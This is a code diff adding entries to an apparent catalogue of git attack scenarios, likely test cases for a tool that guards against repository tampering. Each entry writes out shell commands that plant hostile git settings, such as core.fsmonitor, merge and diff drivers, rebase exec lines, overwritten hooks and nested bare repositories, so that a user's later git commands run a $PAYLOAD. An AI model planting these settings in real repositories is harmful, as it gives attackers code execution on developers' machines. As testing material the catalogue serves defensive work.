@@ -12,6 +12,10 @@ export interface Attack {
   readonly next?: string;
 }
 
+/** Makes a git directory by all means, names it in `x/.git`, and adds a gitlink. */
+const repositoryAt = (path: string) =>
+  `mkdir -p $(dirname ${path}); git clone -q --bare --template= . ${path}; git -c alias.x=init x -q --bare --template= ${path}; git config -f ${path}/config core.bare false; git config -f ${path}/config core.worktree ../../../x; git config -f ${path}/config core.fsmonitor "$PAYLOAD"; settings > ${path}/config; mkdir x; echo "gitdir: $PWD/${path}" > x/.git; git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),x`;
+
 /** The user's git runs a program while the command still runs. */
 export const whileRunning: Readonly<Record<string, Attack>> = {
   "a bare repository at the top instead": {
@@ -71,6 +75,19 @@ export const whileRunning: Readonly<Record<string, Attack>> = {
   },
   "the repository moved away": {
     plant: "mv .git g; cp -r g .git; evil .git/config; polled",
+  },
+  "a bare repository at the top, with garbage in HEAD": {
+    plant:
+      "cp -r .git/objects .git/refs .; evil config; git config -f config core.bare false; git config -f config core.worktree .; cp .git/HEAD HEAD; echo garbage > .git/HEAD; git fast-export --export-marks=.git/HEAD HEAD~1 > /dev/null; polled",
+  },
+  "a repository among large files": {
+    plant: `${repositoryAt(".git/lfs/e")}; polled`,
+  },
+  "a repository among refs": {
+    plant: `${repositoryAt(".git/refs/heads/e")}; polled`,
+  },
+  "a repository among logs": {
+    plant: `${repositoryAt(".git/logs/e")}; polled`,
   },
 };
 
@@ -196,6 +213,25 @@ export const afterwards: Readonly<Record<string, Attack>> = {
     plant:
       'git config merge.x.driver "$PAYLOAD"; git config diff.x.textconv "$PAYLOAD #"; git config filter.x.clean "$PAYLOAD"; echo \'* diff=x merge=x filter=x\' > .gitattributes; echo x >> src/file',
     next: "git diff; git status; git add -A",
+  },
+  "settings through a link of /proc": {
+    plant: `cd .git; for p in /tmp/../proc/self/cwd /dev/../proc/self/cwd /proc/self/cwd ../.git/../.git /tmp/../proc/thread-self/cwd; do
+        git -c alias.x=log x -1 --format="[core]%n fsmonitor = \\"$PAYLOAD\\"" --output=$p/config
+        git -c alias.x=log x -1 --format="../evil" --output=$p/commondir
+      done; mkdir -p ../evil; cp -r objects refs ../evil; cd ..; settings > evil/config; settings > .git/config`,
+  },
+  "a hook that is taken for a message": {
+    given: "printf '#!/bin/sh\\n' > .git/hooks/applypatch-msg; chmod 755 .git/hooks/applypatch-msg",
+    plant: `printf '#!/bin/sh\\nprintf "#!/bin/sh\\\\n%%s\\\\n" "$PAYLOAD" > "$1"\\n' > e; chmod 755 e; export PAYLOAD
+      git -c alias.x=!./e x "$TOP/.git/hooks/applypatch-msg"; git -c alias.x=!./e x .git/hooks/applypatch-msg`,
+    next: "git format-patch -q --stdout HEAD~1 > p; git reset -q --hard HEAD~1; git am p",
+  },
+  "a format of the lines of a rebase": {
+    plant: `git config rebase.instructionFormat "%s%nexec $PAYLOAD"`,
+    next: "git checkout -q -b side HEAD~1; git commit -q --allow-empty -m side; git checkout -q main; git rebase side",
+  },
+  "settings of a work tree by the name of their file": {
+    plant: `git config -f .git/config.worktree core.fsmonitor "$PAYLOAD"; git config extensions.worktreeConfig true; git config core.repositoryformatversion 0`,
   },
 };
 
